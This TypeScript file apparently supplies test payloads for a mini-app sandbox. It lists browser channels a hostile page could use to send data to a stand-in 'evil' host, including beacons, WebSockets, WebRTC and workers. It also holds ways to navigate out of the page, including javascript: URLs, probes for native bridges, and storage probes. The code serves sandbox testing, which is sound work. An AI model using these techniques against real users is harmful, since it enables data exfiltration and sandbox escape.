// What the page of a hostile program does: bodies of asynchronous functions, to be run in its top document.

/**
 * Every way to another server that the web has without leaving the page. Gives what became of fetching from the allowed server,
 * of fetching from the other, and of making code from a text.
 */
export function attemptEgress(evil: string, api: string): string {
  return `
    const evil = 'http://${evil}/', api = 'http://${api}/';
    const attempt = async (run) => { try { await run(); return 'done'; } catch { return 'refused'; } };
    const add = (tag, attributes) => {
      const element = document.createElement(tag);
      for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value);
      document.body.append(element);
    };
    add('img', { src: evil + 'image' });
    add('script', { src: evil + 'script' });
    add('iframe', { src: evil + 'frame' });
    add('link', { rel: 'stylesheet', href: evil + 'style' });
    add('link', { rel: 'prefetch', href: evil + 'prefetch' });
    add('link', { rel: 'preconnect', href: evil });
    add('link', { rel: 'icon', href: evil + 'icon' });
    add('object', { data: evil + 'object' });
    add('video', { src: evil + 'video' });
    add('input', { type: 'image', src: evil + 'input' });
    add('p', { style: 'background: url(' + evil + 'background)' });
    await attempt(() => navigator.sendBeacon(evil + 'beacon', 'secret'));
    await attempt(() => new WebSocket(evil.replace('http', 'ws') + 'socket'));
    await attempt(() => new EventSource(evil + 'events'));
    await attempt(() => import(evil + 'module'));
    await attempt(() => new Worker(evil + 'worker'));
    await attempt(() => new RTCPeerConnection({ iceServers: [{ urls: 'stun:${evil}' }] }).createDataChannel('secret'));
    add('img', { src: api + 'image' });
    await attempt(() => new WebSocket(api.replace('http', 'ws') + 'socket'));
    return [
      await attempt(() => fetch(api + 'fetch')),
      await attempt(() => fetch(evil + 'fetch')),
      await attempt(() => Reflect.construct(Function, ['return 1'])),
    ];`;
}

/** Ways to put another page in the place of the program, or beside it. */
export const attemptToLeave: readonly (readonly [way: string, body: (url: string) => string])[] = [
  ['by its address', (url) => `location.href = '${url}';`],
  ['by replacing its address', (url) => `location.replace('${url}');`],
  ['by a new window', (url) => `window.open('${url}');`],
  ['by a link', (url) => click('a', `{ href: '${url}' }`)],
  ['by a link to a new window', (url) => click('a', `{ href: '${url}', target: '_blank' }`)],
  ['by a download', (url) => click('a', `{ href: '${url}', download: 'file' }`)],
  [
    'by a form',
    (url) => `const form = document.createElement('form');
      form.action = '${url}'; form.method = 'post'; document.body.append(form); form.submit();`,
  ],
  [
    'by a refresh of the page',
    (url) => `const meta = document.createElement('meta');
      meta.httpEquiv = 'refresh'; meta.content = '0;url=${url}'; document.head.append(meta);`,
  ],
  ['by a page of data', (url) => `location.href = 'data:text/html,<img src=${url}>';`],
  ['by a script in its address', (url) => `location.href = 'javascript:fetch("${url}")';`],
];

function click(tag: string, attributes: string): string {
  return `const element = Object.assign(document.createElement('${tag}'), ${attributes});
    document.body.append(element); element.click();`;
}

/** Frames of every kind ask their parents, and whatever the app put into the page, for a bridge. Gives what they heard. */
export const askFromFrames = `
  const heard = [];
  addEventListener('message', ({ data }) => { if (data?.frame) heard.push(data.frame); });
  window.reportFrame = (what) => heard.push(what);
  const script = \`
    addEventListener('message', ({ data, ports }) => {
      if (ports.length > 0 || data?.miniapp === 'port') top.postMessage({ frame: 'port' }, '*');
    });
    if (window.miniapp) top.postMessage({ frame: 'mark' }, '*');
    for (const name of ['say', 'take']) if (window.webkit?.messageHandlers?.[name]) top.postMessage({ frame: name }, '*');
    top.postMessage({ miniapp: 'connect', nonce: 'frame-12345678' }, '*');
    parent.postMessage({ miniapp: 'connect', nonce: 'frame-23456789' }, '*');
  \`;
  const blob = URL.createObjectURL(new Blob(['<script>' + script + '</script>'], { type: 'text/html' }));
  const frames = [{ src: '/index.html' }, { src: blob }, { srcdoc: '<script>' + script + '</script>' }, {}];
  for (const attributes of frames) document.body.append(Object.assign(document.createElement('iframe'), attributes));
  await new Promise((resolve) => setTimeout(resolve, 500));
  // Frames of this origin are an open book to their program: what it can do there, it does for them.
  for (const frame of document.querySelectorAll('iframe')) {
    try {
      const { contentWindow } = frame;
      if (contentWindow.miniapp) heard.push('mark in ' + frame.src);
      for (const name of ['say', 'take'])
        if (contentWindow.webkit?.messageHandlers?.[name]) heard.push(name + ' in ' + frame.src);
      contentWindow.addEventListener('message', ({ data, ports }) => { if (ports.length > 0) heard.push('port'); });
    } catch {
      // Of another origin.
    }
    frame.remove();
  }
  await new Promise((resolve) => setTimeout(resolve, 300));
  return heard;`;

/** Leaves a trace in every storage that there is. */
export function writeStorage(text: string): string {
  return `
    localStorage.setItem('secret', '${text}');
    document.cookie = 'secret=${text}';
    await new Promise((resolve, reject) => {
      const opening = indexedDB.open('secret-${text}');
      opening.onsuccess = () => { opening.result.close(); resolve(); };
      opening.onerror = reject;
    });`;
}

/** What there is: in `localStorage`, in cookies, and the names of databases. */
export const readStorage = `return [
  localStorage.getItem('secret'),
  document.cookie,
  ((await indexedDB.databases?.()) ?? []).map(({ name }) => name),
];`;
